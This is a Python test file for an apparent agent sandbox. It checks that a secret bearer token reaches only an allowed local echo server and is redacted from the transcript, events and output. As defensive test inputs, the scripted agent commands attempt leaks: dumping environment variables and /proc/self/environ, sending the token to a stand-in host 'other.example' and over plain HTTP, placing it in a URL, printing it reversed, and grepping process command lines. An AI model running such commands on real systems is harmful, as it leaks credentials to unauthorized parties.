#!/usr/bin/env python3
"""A run of an agent whose commands use a secret, from its beginning to its end: the server has the value in
every request, and nothing else has it: what the model saw, events, messages, the transcript, the files that
the sandbox had. BARCHAN_BIN is the program."""
import base64
import http.server
import json
import os
import ssl
import subprocess
import tempfile
import threading
import unittest

from network_world import make_authority

BIN = os.environ["BARCHAN_BIN"]
HERE = os.path.dirname(os.path.abspath(__file__))
VALUE = "s3cr3t-MARKER-5a1d0c77e2b94f6d8c3e"


class Echo(http.server.BaseHTTPRequestHandler):
    """Answers with what it was sent, the authorization in several places."""
    protocol_version = "HTTP/1.1"

    def log_message(self, *words):
        pass

    def do_GET(self):
        given = self.headers.get("Authorization", "")
        self.server.given.append(given)
        body = f"{self.requestline}\n{self.headers}{base64.b64encode(given.encode()).decode()}\n".encode()
        self.send_response(200 if self.path != "/broken" else 500)
        self.send_header("X-You-Are", given)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


class SecretRun(unittest.TestCase):
    def setUp(self):
        self.folder = tempfile.TemporaryDirectory()
        self.addCleanup(self.folder.cleanup)
        make_authority(self.folder.name)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(f"{self.folder.name}/server.pem", f"{self.folder.name}/server.key")
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Echo)
        self.server.daemon_threads, self.server.given = True, []
        self.server.socket = context.wrap_socket(self.server.socket, server_side=True)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.addCleanup(self.server.server_close)
        self.addCleanup(self.server.shutdown)

    def run_commands(self, commands, value=VALUE):
        at = f"allowed.example:{self.server.server_port}"
        self.transcript = os.path.join(self.folder.name, f"transcript-{len(os.listdir(self.folder.name))}")
        job = {"commands": [f"AT=https://{at}; {command}" for command in commands], "transcript": self.transcript,
               "allow": [at, f"127.0.0.1:{self.server.server_port}"], "bound": [at],
               "hosts": {"allowed.example": "127.0.0.1"}, "ca_file": f"{self.folder.name}/ca.pem"}
        return subprocess.run([BIN, "run", os.path.join(HERE, "secret_run.lua")], input=json.dumps(job).encode(),
                              capture_output=True, timeout=120, env={**os.environ, "SECRET_OF_A_TEST": value})

    def forms(self):
        """The value, and what holds its middle in base64, at each alignment."""
        yield VALUE.encode()
        for skip in range(3):
            text = base64.b64encode(VALUE.encode()[skip:])
            yield text[4:-4]

    def holds(self, data):
        return [form for form in self.forms() if form in data]

    def test_the_server_has_it_and_nothing_else(self):
        use = 'curl -sS -i -H "Authorization: Bearer $TOKEN" '
        done = self.run_commands([
            use + "$AT/first",
            "env; cat /proc/self/environ; ls -R /workspace /run/barchan",
            use + "$AT/broken | tee answer; cat answer | base64",
            use + "-X POST $AT/first; " + use + "https://other.example/; " + use + "http://${AT#https://}/",
            'curl -sS "$AT/$TOKEN?$TOKEN"; python3 -c "import os; print(os.environ[\'TOKEN\'][::-1])"',
            use + "$AT/last; grep -r barchan-secret /proc/[0-9]*/cmdline; sleep 0.1",
        ])
        self.assertEqual(done.returncode, 0, done.stderr.decode())
        result = json.loads(done.stdout)
        self.assertEqual((result["stop_reason"], result.get("error")), ("end_turn", None))
        self.assertEqual(len(result["seen"]), 7)
        uses = [given for given in self.server.given if given == f"Bearer {VALUE}"]
        self.assertEqual(len(uses), 3, self.server.given)
        with open(self.transcript, "rb") as file:
            transcript = file.read()
        for what, data in (("output", done.stdout), ("events", done.stderr), ("transcript", transcript)):
            self.assertEqual(self.holds(data), [], what)
            self.assertIn(b"barchan-secret-", data)  # the placeholder, so the search is of the right things
            self.assertIn(b"Bearer ****", data)  # and the answers are in it

    def test_the_search_finds_what_is_there(self):
        done = self.run_commands([f"echo {VALUE}; echo x{VALUE} | base64 -w0"])
        with open(self.transcript, "rb") as file:
            transcript = file.read()
        for data in (done.stdout, done.stderr, transcript):
            self.assertGreaterEqual(len(self.holds(data)), 2)

    def test_a_secret_that_cannot_be_is_told_without_it(self):
        done = self.run_commands(["true"], value="MARKER-short")
        self.assertNotEqual(done.returncode, 0)
        self.assertIn(b"from 16 to 4096", done.stderr)
        self.assertNotIn(b"MARKER", done.stderr + done.stdout)


if __name__ == "__main__":
    unittest.main(verbosity=2)
